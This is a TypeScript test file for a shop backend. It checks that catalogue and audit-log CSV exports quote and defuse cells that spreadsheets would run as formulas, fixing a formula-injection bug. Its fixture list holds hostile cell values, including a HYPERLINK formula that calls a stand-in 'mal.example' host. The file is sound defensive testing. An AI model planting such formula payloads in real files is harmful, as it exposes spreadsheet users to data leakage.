import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import { parseCsv, unguardFormula } from "../../shared/csv";
import { OWNER, person } from "./setup/admin";
import { exportCsv, importCsv, linesOf, seedCsvCatalogue } from "./setup/catalog-csv";

/**
 * Issue 43 (low), decisions/0046: a name such as `,=1+2` was written unquoted in the `;` catalogue file and in the `,`
 * audit file, so a spreadsheet splitting on the other separator got a live formula. Every cell of both exports is now
 * quoted and defused wherever a spreadsheet could start a cell, whatever the separator it splits on.
 */
beforeAll(seedCsvCatalogue);

const NAMES = [",=1+2", ";=1+2", '=HYPERLINK("http://mal.example/?x","clique")', "+351 912", "-1+1", "@SUM(A1)", "\t=1+2", "\r=1+2", "Body, -2+3"];
/** The names a product may really have (the catalogue refuses control characters: no tab, no carriage return). */
const PRINTABLE = NAMES.filter((n) => !/[\t\r]/.test(n));

/** Every cell a spreadsheet could make of the file, whatever it splits on (`;`, `,`, a tab, a line), quotes and spaces dropped. */
const cellsAnySplit = (text: string) => text.split(/[;,\t\r\n]/).map((c) => c.replace(/^[" ]*/, ""));
const live = (text: string) => cellsAnySplit(text).filter((c) => /^[=+\-@\t\r]/.test(c));

describe("CSV exports: no cell a spreadsheet runs, whatever separator it splits on", () => {
  it("the catalogue (`;`): every hostile name defused, and the export reads back unchanged", async () => {
    // The fixture's products 1..7: a name each, and a Spanish name from the same list.
    const named = NAMES.slice(0, 7).map((name, i) => ({ id: i + 1, name, nameEs: NAMES[(i + 7) % NAMES.length]! }));
    for (const p of named) await env.DB.prepare("UPDATE products SET name = ?1, name_es = ?2 WHERE id = ?3").bind(p.name, p.nameEs, p.id).run();
    const owner = await person("owner", OWNER);
    const { status, text } = await exportCsv(owner.b);
    expect(status).toBe(200);
    expect(live(text)).toEqual([]);
    // Read as it was written (`;`), each name comes back exactly once its guard is taken away (as the import does).
    const lines = linesOf(text);
    for (const p of named) {
      const line = lines.find((l) => l.product_sku === `SKU-${p.id}`)!;
      expect([unguardFormula(line.name), unguardFormula(line.name_es)]).toEqual([p.name, p.nameEs]);
    }
    // The owner's round trip still changes nothing (for the names a product may have).
    for (const p of named)
      if (!PRINTABLE.includes(p.name) || !PRINTABLE.includes(p.nameEs))
        await env.DB.prepare("UPDATE products SET name = 'Nome', name_es = NULL WHERE id = ?1").bind(p.id).run();
    const again = await importCsv(owner.b, (await exportCsv(owner.b)).text);
    expect(again.status, JSON.stringify(again.body.errors)).toBe(200);
    expect(again.body).toMatchObject({ errorCount: 0, changes: { products: 0, variants: 0, stock: 0 } });
  });

  it("the audit log (`;` since issue 44, as the catalogue): every hostile cell defused, and read back as it was", async () => {
    for (const name of NAMES)
      await env.DB.prepare("INSERT INTO audit_log (actor, action, before, after, detail) VALUES (?1, 'product.updated', ?2, ?2, ?2)").bind(OWNER, name).run();
    const owner = await person("owner", OWNER);
    const res = await owner.b.fetch("/api/admin/audit.csv");
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(live(text)).toEqual([]);
    const parsed = parseCsv(text, ";");
    expect(parsed.ok).toBe(true);
    const details = parsed.ok ? parsed.records.map((r) => unguardFormula(r[7] ?? "")) : [];
    for (const name of NAMES) expect(details).toContain(name);
  });
});
